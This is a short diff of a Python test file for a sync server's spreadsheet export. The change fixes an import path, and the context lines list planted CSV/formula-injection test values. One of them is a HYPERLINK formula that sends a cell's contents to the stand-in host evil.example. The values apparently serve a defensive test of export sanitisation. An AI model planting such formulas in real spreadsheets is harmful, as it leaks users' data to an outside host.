@@ -16,7 +16,7 @@ from openpyxl import load_workbook
 from sync.schema import Batch
 from sync.server.storage.sqlite import SQLiteStorage
 from tests.conftest import REPO
-from tests.sync.consolekit import VIEWER, entry_fields, journal_entries, login
+from tests.sync.server.consolekit import VIEWER, entry_fields, journal_entries, login
 
 PLANTED = ["=1*11", '=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+2", "-2-3", "@SUM(1)", "\t=1", "\r=1"]
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
